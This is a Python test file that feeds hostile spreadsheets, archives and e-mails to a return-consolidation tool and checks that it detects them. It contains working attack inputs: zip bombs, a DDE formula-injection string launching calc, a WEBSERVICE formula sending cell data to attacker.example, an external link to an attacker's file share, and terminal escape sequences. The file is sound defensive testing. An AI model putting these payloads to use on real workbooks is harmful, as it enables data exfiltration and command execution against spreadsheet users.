"""The hostile corpus: files built to break qmr, each in a batch beside the quarter's valid returns,
run through the real `qmr` command in a subprocess under an address-space limit (a regression that
allocates for a far-away cell fails fast instead of swapping).

For every case: no traceback, the exit code DESIGN.md gives, the valid returns' items exactly as in a
clean run, every input file in the master's Sources sheet, inputs byte-identical afterwards, and the
case's own finding. One set of templates and valid returns is shared by the module; cases are
grouped into few batches (each batch is one consolidate run and, where feedback matters, one validate).
"""

from __future__ import annotations

import csv
import hashlib
import os
import re
import resource
import shutil
import sqlite3
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest

from conftest import convert
from qmr import cycle as quarter
from qmr.collect.sniff import OLE_MAGIC
from qmr.demo.simulate import fill_return, simulate
from qmr.model import Plan
from qmr.period import Period
from qmr.returns import layout
from qmr.returns.extent import check_package
from qmr.returns.reader import read_return
from qmr.returns.template import write_return
from test_sources import eml_bytes, msg_bytes
from xlsb import write_xlsb

QMR = Path(sys.executable).with_name("qmr")
Q3 = Period(2008, 3)
TEAMS = ("BSC-FIN", "BSC-MIC", "BSC-PP")
SIGNED = date(2009, 1, 12)
LATER = SIGNED + timedelta(days=8)  # a forged return signed after the real one would win if accepted
EARLIER = SIGNED - timedelta(days=4)  # a draft the real return supersedes
MALLORY = "Mallory <mallory@attacker.example>"
MEMORY_LIMIT = 2 * 1024**3  # address space per qmr process: a normal run of this size needs far less
EXIT_CLEAN, EXIT_PROBLEMS = 0, 1


# ------------------------------------------------------------------------------------------------
# Running qmr as a user does, under a memory limit


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def qmr(*args: object, cwd: Path, expect: int) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("QMR_DEBUG", "FORCE_COLOR", "COLUMNS")}
    done = subprocess.run([str(QMR), *map(str, args)], cwd=cwd, capture_output=True, text=True, env=env,
                          timeout=300, preexec_fn=_limited)
    shown = done.stdout + done.stderr
    assert "Traceback" not in shown, shown
    assert done.returncode == expect, f"exit {done.returncode}, expected {expect}:\n{shown}"
    return done


def squashed(text: str) -> str:
    """Terminal text without white space and table borders (rich folds a long path across the lines
    of a table cell)."""
    return re.sub(r"[\s\u2500-\u257f]", "", text)


def snapshot(folder: Path) -> dict[str, str]:
    """sha256 of every file under `folder`, hidden ones included."""
    found = {}
    for root, _, files in os.walk(folder):
        for name in files:
            path = Path(root) / name
            found[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def sheet_rows(path: Path, sheet: str) -> list[dict[str, object]]:
    book = openpyxl.load_workbook(path, read_only=True)
    rows = list(book[sheet].iter_rows(values_only=True))
    book.close()
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if any(v is not None for v in row)]


def data_items(csv_path: Path) -> list[tuple[str, ...]]:
    """The Data CSV's rows, the source file reduced to its name (batches live in different folders)."""
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    return sorted(tuple(Path(v).name if k == "source_file" else v for k, v in row.items()) for row in rows)


# ------------------------------------------------------------------------------------------------
# The quarter: a working folder, its templates and one valid return per team, and a clean run


@dataclass(frozen=True)
class Quarter:
    root: Path
    work: Path  # the working folder made by `qmr init` (with its team-token secret)
    plan: Path
    register: Plan
    templates: dict[str, Path]
    valid: dict[str, Path]  # team -> a valid filled return
    clean_items: list[tuple[str, ...]]


@pytest.fixture(scope="module")
def q(tmp_path_factory: pytest.TempPathFactory) -> Quarter:
    root = tmp_path_factory.mktemp("hostile")
    folder = quarter.init_folder(root / "work", "bpr-2008-09")
    plan, _ = quarter.load_plan(folder.plan)
    secret = quarter.folder_secret(folder)
    assert secret is not None  # `qmr init` made one
    templates = {t.stem.split("_", 1)[1]: t
                 for t in quarter.make_templates(plan, Q3, folder.templates_for(Q3), secret=secret)}
    valid = {team: fill_return(templates[team], root / "valid" / f"{team} return.xlsx",
                               simulate(plan, team, Q3, 7, signed=SIGNED)) for team in TEAMS}
    out = root / "clean" / "QMR.xlsx"
    qmr("consolidate", "--plan", folder.plan, "--period", Q3.label, root / "valid", "--out", out, "--quiet",
        cwd=root, expect=EXIT_CLEAN)
    return Quarter(root, folder.root, folder.plan, plan, templates, valid, data_items(out.with_suffix(".csv")))


# ------------------------------------------------------------------------------------------------
# Editing a package's parts as an attacker does (the zip rewritten, every other part kept)


def rewrite(source: Path, target: Path, edit: Callable[[str, bytes], bytes | None],
            add: dict[str, bytes] | None = None) -> Path:
    """Copy a package, passing each part through `edit(name, data)` (None drops it), adding `add`."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = edit(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return target


def sheet_part(path: Path, sheet: str) -> str:
    """The zip part holding a sheet, from the workbook and its relationships."""
    with zipfile.ZipFile(path) as package:
        workbook = package.read("xl/workbook.xml").decode()
        rels = package.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', workbook).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    name = target.group(1).lstrip("/")
    return name if name.startswith("xl/") else f"xl/{name}"


def far_cell(source: Path, target: Path, ref: str) -> Path:
    """One value at `ref` on the Indicators sheet, the sheet's <dimension> left as it was (it lies)."""
    part = sheet_part(source, layout.INDICATORS.name)
    row = re.match(r"[A-Z]+(\d+)", ref).group(1)

    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        cell = f'<row r="{row}"><c r="{ref}" t="n"><v>1</v></c></row>'.encode()
        return data.replace(b"</sheetData>", cell + b"</sheetData>")

    return rewrite(source, target, edit)


def declared_range(source: Path, target: Path, ref: str) -> Path:
    part = sheet_part(source, layout.INDICATORS.name)

    def edit(name: str, data: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data) if name == part else data

    return rewrite(source, target, edit)


def identity_edit(source: Path, target: Path, change: Callable[[openpyxl.Workbook], None]) -> Path:
    book = openpyxl.load_workbook(source)
    change(book)
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return target


def key_rows(book: openpyxl.Workbook) -> list[int]:
    ws = book[layout.IDENTITY_SHEET]
    return [r for r in range(layout.IDENTITY_KEYS_HEADER_ROW + 1, ws.max_row + 1) if ws.cell(r, 3).value]


def repoint_key(book: openpyxl.Workbook) -> None:
    """The prefix attack: a row's key gets a digit more (`indicator:X` -> `indicator:X5`)."""
    ws = book[layout.IDENTITY_SHEET]
    row = next(r for r in key_rows(book) if str(ws.cell(r, 3).value).startswith("indicator:"))
    ws.cell(row, 3).value = f"{ws.cell(row, 3).value}5"


def key_twice(book: openpyxl.Workbook) -> None:
    """Two identity rows with the same key (and the second visible ref edited to match)."""
    ws = book[layout.IDENTITY_SHEET]
    first, second = key_rows(book)[:2]
    sheet, row = ws.cell(second, 1).value, int(ws.cell(second, 2).value)
    ws.cell(second, 3).value, ws.cell(second, 4).value = ws.cell(first, 3).value, ws.cell(first, 4).value
    item_sheet = layout.sheet_named(sheet)
    book[sheet][item_sheet.cell(item_sheet.ref_field, row)].value = ws.cell(first, 4).value


def claim(team: str, *, signed: date, rekey: bool = False) -> Callable[[openpyxl.Workbook], None]:
    """Another team's return with its hidden identity edited to claim `team`, signed later so that it
    would win; with `rekey`, every row re-keyed (and its visible ref edited to match) to a ref the
    register does not have, so that no row gives it away as another team's."""

    def change(book: openpyxl.Workbook) -> None:
        ws = book[layout.IDENTITY_SHEET]
        ws[layout.identity_cell("team")].value = team
        book[layout.SIGNOFF_SHEET][layout.signoff_cell("date")].value = signed
        for row in key_rows(book) if rekey else ():
            sheet, number, key, ref = (ws.cell(row, c).value for c in (1, 2, 3, 4))
            new_ref = f"{ref}-X"
            ws.cell(row, 3).value, ws.cell(row, 4).value = f"{key.split(':', 1)[0]}:{new_ref}", new_ref
            item_sheet = layout.sheet_named(sheet)
            book[sheet][item_sheet.cell(item_sheet.ref_field, int(number))].value = new_ref

    return change


def filled(q: Quarter, team: str, target: Path, seed: int, signed: date | str,
           template: Path | None = None) -> Path:
    """`team`'s template filled in by someone (seeded answers), signed `signed` (a date, or text typed)."""
    answers = simulate(q.register, team, Q3, seed, signed=SIGNED)
    answers.signoff["date"] = signed
    target.parent.mkdir(parents=True, exist_ok=True)
    return fill_return(template or q.templates[team], target, answers)


def hidden_copy(book: openpyxl.Workbook) -> None:
    copy = book.copy_worksheet(book[layout.INDICATORS.name])
    copy.title = f"{layout.INDICATORS.name} (2)"
    copy.sheet_state = "hidden"


def zipped(target: Path, members: dict[str, bytes]) -> Path:
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return target


# ------------------------------------------------------------------------------------------------
# The cases: each builds its files in the inbox and says what must be found about them


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Quarter, Path], None]
    expect: dict[str, str] = field(default_factory=dict)  # part of a file's name -> finding code it gets
    replaces_valid: bool = False  # the case's file stands in for a team's valid return (same items)


def _build_far(ref: str, team: str) -> Callable[[Quarter, Path], None]:
    return lambda q, inbox: far_cell(q.valid[team], inbox / f"far {ref}.xlsx", ref) and None


CASES = (
    Case("one value at XFD1048576", _build_far("XFD1048576", "BSC-MIC"), {"far XFD1048576.xlsx": "sheet-too-large"}),
    Case("one value at Z1048576", _build_far("Z1048576", "BSC-FIN"), {"far Z1048576.xlsx": "sheet-too-large"}),
    Case("a declared range of a million rows",
         lambda q, inbox: declared_range(q.valid["BSC-PP"], inbox / "declared.xlsx", "A1:K1048576") and None,
         {"declared.xlsx": "sheet-too-large"}),
    Case("a row key re-pointed by prefix",
         lambda q, inbox: identity_edit(q.valid["BSC-FIN"], inbox / "repointed.xlsx", repoint_key) and None,
         {"repointed.xlsx": "keys-tampered"}),
    Case("a row key used twice",
         lambda q, inbox: identity_edit(q.valid["BSC-FIN"], inbox / "key twice.xlsx", key_twice) and None,
         {"key twice.xlsx": "keys-tampered"}),
    Case("a hidden copy of an input sheet",
         lambda q, inbox: identity_edit(q.valid["BSC-MIC"], inbox / "hidden copy.xlsx", hidden_copy) and None,
         {"hidden copy.xlsx": "sheet-duplicated"}),
    Case("a zip member named with terminal escapes",
         lambda q, inbox: zipped(inbox / "escapes.zip", {"\x1b]0;owned\x07\x1b[2J.xlsx": b"PK\x03\x04 junk"})
         and None, {"escapes.zip/": "workbook-corrupt"}),
)

ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"


def ods(target: Path, rows: bytes) -> Path:
    """An OpenDocument spreadsheet of one sheet holding `rows` (table:table-row elements)."""
    content = (b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:'
               b'tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               b'<table:table table:name="Indicators">' + rows + b"</table:table></office:spreadsheet></office:body>"
               b"</office:document-content>")
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), ODS_MIMETYPE)  # stored, first, as ODF requires
        package.writestr("content.xml", content)
    return target


# 6,000 rows of a value repeated over 16,000 columns: 96 million cells, which python-calamine (under its
# own 100 million cell limit) would allocate, aborting the process under the test's address-space limit
REPEATED = (b'<table:table-row table:number-rows-repeated="6000"><table:table-cell table:number-columns-repeated='
            b'"16000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
            b"</table:table-row>")
CASES += (
    Case("an .ods repeating one value over 6,000 rows x 16,000 columns",
         lambda q, inbox: ods(inbox / "repeated.ods", REPEATED) and None, {"repeated.ods": "sheet-too-large"}),
    Case("an .ods whose content.xml is a zip bomb",
         lambda q, inbox: ods(inbox / "bomb.ods", b"<table:table-row/>" * 3_000_000) and None,
         {"bomb.ods": "workbook-bomb"}),
    Case("an .xlsb whose sheets declare the whole grid (BrtWsDim)",
         lambda q, inbox: write_xlsb(q.valid["BSC-PP"], inbox / "whole grid.xlsb", dimension=(1_048_576, 16_384))
         and None, {"whole grid.xlsb": "sheet-too-large"}),
)


def _hidden_files(q: Quarter, inbox: Path) -> None:
    shutil.copy(q.valid["BSC-PP"], inbox / ".PP_hidden.xlsx")
    (inbox / ".hiddendir").mkdir()
    shutil.copy(q.valid["BSC-PP"], inbox / ".hiddendir" / "PP.xlsx")
    zipped(inbox / "mac.zip", {"__MACOSX/._PP.xlsx": b"\x00\x05\x16\x07", ".DS_Store": b"junk"})


def _emailed(q: Quarter, inbox: Path) -> None:
    """Drafts (superseded by the valid returns) e-mailed by someone who is not the team's clerk, and one
    by the clerk (the address in another case than the register's)."""
    pp = filled(q, "BSC-PP", q.root / "mail" / "PP.xlsx", 21, EARLIER).read_bytes()
    mic = filled(q, "BSC-MIC", q.root / "mail" / "MIC.xlsx", 22, EARLIER).read_bytes()
    fin = filled(q, "BSC-FIN", q.root / "mail" / "FIN.xlsx", 23, EARLIER).read_bytes()
    (inbox / "from mallory.eml").write_bytes(eml_bytes([("PP return.xlsx", pp)], sender=MALLORY))
    (inbox / "from mallory.msg").write_bytes(msg_bytes([("MIC return.xlsx", mic)], sender=MALLORY))
    clerk = q.register.team("BSC-FIN").clerk_email
    (inbox / "from the clerk.eml").write_bytes(eml_bytes([("FIN return.xlsx", fin)],
                                                         sender=f"FIN clerk <{clerk.upper()}>"))


CASES += (
    Case("hidden files, a hidden folder and a zip of dot-entries only", _hidden_files),
    Case("another team's return whose identity claims BSC-FIN, signed later",
         lambda q, inbox: identity_edit(q.valid["BSC-MIC"], inbox / "MIC as FIN.xlsx",
                                        claim("BSC-FIN", signed=LATER)) and None,
         {"MIC as FIN.xlsx": "rows-of-another-team"}),
    Case("BSC-FIN's own template filled by someone else, signed 31/12/9999",
         lambda q, inbox: filled(q, "BSC-FIN", inbox / "FIN 9999.xlsx", 31, "31/12/9999") and None,
         {"FIN 9999.xlsx": "signoff-date-impossible"}),
    Case("a return signed before the period began",
         lambda q, inbox: filled(q, "BSC-MIC", inbox / "MIC early.xlsx", 32, Q3.start - timedelta(days=1))
         and None, {"MIC early.xlsx": "signoff-date-impossible"}),
    Case("returns e-mailed by someone other than the team's clerk", _emailed,
         {"from mallory.eml/": "sender-not-clerk", "from mallory.msg/": "sender-not-clerk"}),
    Case("run outside the working folder: tokens unchecked", lambda q, inbox: None,
         {".qmr-secret": "token-unchecked"}),
)


def _issued_before_the_secret(q: Quarter, inbox: Path) -> None:
    old = write_return(q.register, "BSC-FIN", Q3, q.root / "old" / "FIN template.xlsx")  # no secret: no token
    filled(q, "BSC-FIN", inbox / "FIN no token.xlsx", 41, EARLIER, template=old)


def as_format_1(book: openpyxl.Workbook) -> None:
    """The identity sheet as a qmr from before team tokens wrote it: format 1, no team_token row."""
    ws = book[layout.IDENTITY_SHEET]
    ws.delete_rows(layout.identity_row("team_token"))
    ws[layout.identity_cell("format_version")].value = 1


def _format_1(q: Quarter, inbox: Path) -> None:
    draft = filled(q, "BSC-MIC", q.root / "old" / "MIC format 1.xlsx", 42, EARLIER)
    identity_edit(draft, inbox / "MIC format 1.xlsx", as_format_1)


# Run inside the working folder, so that the team tokens are checked.
IN_FOLDER_CASES = (
    Case("another team's return claiming BSC-FIN, every row re-keyed to refs nobody has",
         lambda q, inbox: identity_edit(q.valid["BSC-MIC"], inbox / "MIC as FIN rekeyed.xlsx",
                                        claim("BSC-FIN", signed=LATER, rekey=True)) and None,
         {"MIC as FIN rekeyed.xlsx": "token-mismatch"}),
    Case("a template issued before the working folder had its secret", _issued_before_the_secret,
         {"FIN no token.xlsx": "token-missing"}),
    Case("a return of format 1 (before team tokens): read, with a warning", _format_1,
         {"MIC format 1.xlsx": "token-missing"}),
)
IN_FOLDER = "in the working folder"
BATCHES = {"all": CASES, IN_FOLDER: IN_FOLDER_CASES}
STALE = ".QMR.xlsx.abcd1234.tmp"  # what a run killed while writing the master left behind


@pytest.fixture(scope="module", params=sorted(BATCHES))
def batch(request: pytest.FixtureRequest, q: Quarter) -> tuple[tuple[Case, ...], Path, dict[str, str]]:
    cases = BATCHES[request.param]
    folder = q.root / "batches" / request.param
    inbox = folder / "inbox"
    inbox.mkdir(parents=True)
    for path in q.valid.values():
        shutil.copy(path, inbox / path.name)
    for case in cases:
        case.build(q, inbox)
    out = folder / "out"
    out.mkdir()
    for name in (STALE, ".QMR.xlsx.fresh123.tmp", ".other.xlsx.abcd1234.tmp"):
        (out / name).write_bytes(b"")
    os.utime(out / STALE, (time.time() - 3600, time.time() - 3600))
    os.utime(out / ".other.xlsx.abcd1234.tmp", (time.time() - 3600, time.time() - 3600))
    before = snapshot(inbox)
    inside = ("--db", folder / "qmr.db") if request.param == IN_FOLDER else ()  # not the folder's history
    done = qmr("consolidate", "--plan", q.plan, "--period", Q3.label, inbox, "--out", folder / "out" / "QMR.xlsx",
               *inside, cwd=q.work if request.param == IN_FOLDER else folder, expect=EXIT_PROBLEMS)
    assert snapshot(inbox) == before, "an input was modified"
    return cases, folder, {"stdout": done.stdout + done.stderr}


def test_valid_returns_keep_exactly_their_clean_items(q: Quarter, batch) -> None:
    _, folder, _ = batch
    assert data_items(folder / "out" / "QMR.csv") == q.clean_items


def test_every_input_file_is_in_sources(batch) -> None:
    _, folder, _ = batch
    listed = [str(row["File"]) for row in sheet_rows(folder / "out" / "QMR.xlsx", "Sources")]
    inbox = folder / "inbox"
    for name in snapshot(inbox):
        path = str(inbox / name)
        assert any(entry == path or entry.startswith(path + "/") for entry in listed), (name, listed)


def test_a_killed_runs_temporary_is_removed_and_nothing_else(batch) -> None:
    _, folder, _ = batch
    left = sorted(p.name for p in (folder / "out").iterdir() if p.name.endswith(".tmp"))
    assert left == [".QMR.xlsx.fresh123.tmp", ".other.xlsx.abcd1234.tmp"]  # too young, or not this output's


@pytest.mark.parametrize("case", CASES + IN_FOLDER_CASES, ids=lambda c: c.name)
def test_each_case_gets_its_finding(case: Case, batch) -> None:
    cases, folder, _ = batch
    if case not in cases:
        pytest.skip("not in this batch")
    findings = sheet_rows(folder / "out" / "QMR.xlsx", "Validation")
    for tail, code in case.expect.items():
        about = [f for f in findings if tail in str(f["File"])]
        assert code in {f["Code"] for f in about}, (tail, about or findings)


def test_what_is_genuine_is_not_doubted(batch) -> None:
    """The clerk's own e-mail raises no sender warning; in the working folder, the valid returns' tokens
    are checked and pass (no token warning of any kind about them)."""
    cases, folder, _ = batch
    findings = sheet_rows(folder / "out" / "QMR.xlsx", "Validation")
    codes = {(Path(str(f["File"])).name, f["Code"]) for f in findings}
    doubted = {(name, code) for name, code in codes if code.startswith(("token-", "sender-"))}
    if cases is IN_FOLDER_CASES:
        assert doubted == {("FIN no token.xlsx", "token-missing"), ("MIC format 1.xlsx", "token-missing"),
                           ("MIC as FIN rekeyed.xlsx", "token-mismatch")}
        sources = {Path(str(r["File"])).name: r for r in sheet_rows(folder / "out" / "QMR.xlsx", "Sources")}
        assert sources["MIC format 1.xlsx"]["Outcome"] == "superseded"  # read, not refused
    else:
        assert not [f for f in findings if "from the clerk.eml" in str(f["File"]) and f["Code"] == "sender-not-clerk"]
        assert ("FIN return.xlsx", "sender-not-clerk") not in codes


def test_no_control_character_reaches_the_terminal(batch) -> None:
    _, _, shown = batch
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", shown["stdout"].replace("\n", "")), shown["stdout"]


# ------------------------------------------------------------------------------------------------
# History and outputs: what reaches the terminal and the CSVs, and failures after an output is written


INJECTION = "=cmd|' /C calc'!A0"


def _with_commentary(q: Quarter, target: Path, texts: list[str]) -> Path:
    """FIN's valid return with commentary typed as text (a clerk's leading `=` kept as text, and an
    escape sequence as Excel stores control characters in a string, `_x001B_`)."""
    book = openpyxl.load_workbook(q.valid["BSC-FIN"])
    ws = book[layout.MILESTONES.name]
    for row, text in enumerate(texts, start=layout.FIRST_ROW):
        cell = ws[layout.MILESTONES.cell("commentary", row)]
        cell.value, cell.data_type = text, "s"
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return target


def test_history_export_and_show_are_safe(q: Quarter, tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    _with_commentary(q, inbox / "FIN.xlsx", [INJECTION, "_x001B_[2J_x001B_]0;owned_x0007_ cleared"])
    db = tmp_path / "qmr.db"
    qmr("consolidate", "--plan", q.plan, "--period", Q3.label, inbox, "--out", tmp_path / "QMR.xlsx",
        "--db", db, "--quiet", cwd=tmp_path, expect=EXIT_CLEAN)
    shown = qmr("history", "show", "BSC-FIN", "--db", db, cwd=tmp_path, expect=EXIT_CLEAN).stdout
    assert "\x1b" not in shown and "\\x1b[2J" in shown
    qmr("history", "export", tmp_path / "export.csv", "--db", db, cwd=tmp_path, expect=EXIT_CLEAN)
    with (tmp_path / "export.csv").open(encoding="utf-8-sig", newline="") as handle:
        fields = [value for row in csv.reader(handle) for value in row]
    assert "'" + INJECTION in fields and INJECTION not in fields


def test_history_held_by_another_writer_is_exit_1_with_a_finding(q: Quarter, tmp_path: Path) -> None:
    db = tmp_path / "qmr.db"
    qmr("consolidate", "--plan", q.plan, "--period", Q3.label, q.valid["BSC-FIN"], "--out", tmp_path / "a.xlsx",
        "--db", db, "--quiet", cwd=tmp_path, expect=EXIT_CLEAN)
    holder = sqlite3.connect(db, isolation_level=None)
    try:
        holder.execute("BEGIN IMMEDIATE")
        holder.execute("DELETE FROM items WHERE team = 'BSC-FIN'")
        done = qmr("consolidate", "--plan", q.plan, "--period", Q3.label, q.root / "valid",
                   "--out", "b.xlsx", "--db", "qmr.db", cwd=tmp_path, expect=EXIT_PROBLEMS)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert (tmp_path / "b.xlsx").exists() and (tmp_path / "b.csv").exists()
    codes = {(f["Code"], f["File"]) for f in sheet_rows(tmp_path / "b.xlsx", "Validation")}
    assert ("history-not-updated", str(db)) not in codes  # the master was written before history
    assert re.search(r"│ error +│ qmr\.db +│ history not", done.stdout), done.stdout


def test_an_output_that_cannot_be_written_after_the_master_is_exit_1_naming_it(q: Quarter, tmp_path: Path
                                                                              ) -> None:
    (tmp_path / "QMR.csv").mkdir()  # stands for a full disk or a locked file: the CSV cannot be written
    done = qmr("consolidate", "--plan", q.plan, "--period", Q3.label, q.root / "valid", "--out", "QMR.xlsx",
               cwd=tmp_path, expect=EXIT_PROBLEMS)
    assert (tmp_path / "QMR.xlsx").exists()
    assert "notwritten" in squashed(done.stdout) and "│ QMR.csv │" in done.stdout


# ------------------------------------------------------------------------------------------------
# What a return carries into its feedback copy: links to elsewhere, a VBA project

ATTACKER_SHARE = r"\\attacker.example\share"
EXTERNAL_LINK = ('<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                 '<externalBook r:id="rId1"><sheetNames><sheetName val="Figures"/></sheetNames>'
                 '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
                 '</sheetData></sheetDataSet></externalBook></externalLink>')
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def linked(q: Quarter, target: Path) -> Path:
    """FIN's valid return with a formula fetching from a web service, a formula reading a workbook on
    \\\\attacker.example\\share, and that workbook's external link part, as Excel writes them."""
    book = openpyxl.load_workbook(q.valid["BSC-FIN"])
    ws = book[layout.NARRATIVE_SHEET]
    ws[f"A{layout.FIRST_ROW}"], ws[f"B{layout.FIRST_ROW}"] = "Key development", "Figures"
    ws[f"C{layout.FIRST_ROW}"] = '=WEBSERVICE("http://attacker.example/?q="&A5)'
    ws[f"C{layout.FIRST_ROW + 1}"] = "=[1]Figures!A1"
    plain = target.with_name(f"plain {target.name}")
    target.parent.mkdir(parents=True, exist_ok=True)
    book.save(plain)

    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            return data.replace(b"</sheets>", f'</sheets><externalReferences><externalReference xmlns:r="{RELS}" '
                                'r:id="rIdX1"/></externalReferences>'.encode())
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", f'<Relationship Id="rIdX1" Type="{RELS}/externalLink" '
                                f'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
                                b'externalLink+xml"/></Types>')
        return data

    link_rels = (f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" Type="{RELS}/externalLinkPath" '
                 f'Target="file:///{ATTACKER_SHARE}\\figures.xlsx" TargetMode="External"/></Relationships>')
    rewrite(plain, target, edit, {"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK.encode(),
                                  "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})
    plain.unlink()
    return target


def with_vba(q: Quarter, target: Path) -> Path:
    """MIC's valid return carrying a VBA project, as an .xlsm saved and renamed .xlsx carries it."""
    def edit(name: str, data: bytes) -> bytes:
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdV1" Type="http://schemas.microsoft.'
                                b'com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                b"</Relationships>")
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/xl/vbaProject.bin" ContentType='
                                b'"application/vnd.ms-office.vbaProject"/></Types>')
        return data

    return rewrite(q.valid["BSC-MIC"], target, edit, {"xl/vbaProject.bin": OLE_MAGIC + bytes(504)})


def test_links_and_macros_are_said_and_stay_out_of_feedback_copies(q: Quarter, tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    linked(q, inbox / "FIN linked.xlsx")
    with_vba(q, inbox / "MIC macros.xlsx")
    shutil.copy(q.valid["BSC-PP"], inbox / "PP.xlsx")
    before = snapshot(inbox)
    qmr("validate", "--plan", q.plan, "--period", Q3.label, inbox, "--feedback", tmp_path / "feedback",
        "--report", tmp_path / "findings.xlsx", "--quiet", cwd=tmp_path, expect=EXIT_CLEAN)
    assert snapshot(inbox) == before
    findings = sheet_rows(tmp_path / "findings.xlsx", "Findings")
    codes = {(Path(str(f["file"])).name, f["code"]): str(f["message"]) for f in findings}
    assert ATTACKER_SHARE in codes["FIN linked.xlsx", "external-link"]
    assert "feedback copy leaves them out" in codes["FIN linked.xlsx", "external-link"]
    assert ("MIC macros.xlsx", "vba-project") in codes
    copy = tmp_path / "feedback" / "FIN linked_feedback.xlsx"
    with zipfile.ZipFile(copy) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert not [name for name in parts if "externalLink" in name]
    relations = [name for name in parts if name.endswith(".rels") or name == "xl/workbook.xml"]
    assert not [name for name in relations if b"attacker.example" in parts[name]], "the link stayed"
    formulas = [f for name, data in parts.items() if name.startswith("xl/worksheets/")
                for f in re.findall(rb"<f[^>]*>([^<]*)</f>", data)]
    assert not [f for f in formulas if b"WEBSERVICE" in f.upper() or b"[1]" in f], formulas


def sheet_bytes(path: Path) -> int:
    """What a return's sheets unpack to: what the feedback size limit is about."""
    with zipfile.ZipFile(path) as package:
        return sum(i.file_size for i in package.infolist() if i.filename.startswith("xl/worksheets/"))


def test_a_return_too_large_for_a_feedback_copy_is_a_finding_and_the_others_get_theirs(q: Quarter, tmp_path: Path
                                                                                      ) -> None:
    """The limit lowered (a parameter, as for a council with smaller machines) so that the largest of three
    returns, each with a problem to mark, is over it: that one gets a finding, the other two their copies."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for team in TEAMS:
        book = openpyxl.load_workbook(q.valid[team])
        ws = book[layout.IDENTITY_SHEET]
        first = key_rows(book)[0]
        sheet, row = ws.cell(first, 1).value, int(ws.cell(first, 2).value)
        book[sheet][layout.sheet_named(sheet).cell("progress", row)].value = None  # a problem to mark up
        book.save(inbox / f"{team}.xlsx")
    sizes = {team: sheet_bytes(inbox / f"{team}.xlsx") for team in TEAMS}
    largest = max(sizes, key=lambda team: sizes[team])
    limit = max(size for team, size in sizes.items() if team != largest)  # the others are within it
    assert sizes[largest] > limit
    batch = quarter.run_validation(q.register, Q3, [inbox])
    copies = quarter.write_feedback_copies(batch, tmp_path / "feedback", Q3, max_sheet_bytes=limit)
    assert sorted(p.name for p in copies.written) == sorted(f"{team}_feedback.xlsx" for team in TEAMS
                                                            if team != largest)
    failed = [f for f in copies.findings if f.code == "feedback-failed"]
    assert [Path(f.file).name for f in failed] == [f"{largest}.xlsx"], failed
    assert "a feedback copy is made from" in failed[0].message


@pytest.mark.libreoffice
@pytest.mark.parametrize("what", ["template", "filled return"])
def test_a_workbook_saved_by_libreoffice_passes_the_extent_scan(q: Quarter, soffice: str, tmp_path: Path,
                                                                 what: str) -> None:
    """LibreOffice writes its own <dimension> and styled columns out to the sheet's edge (`<cols>` up to
    XFD): a legitimate return it saved must not look like a far-away cell."""
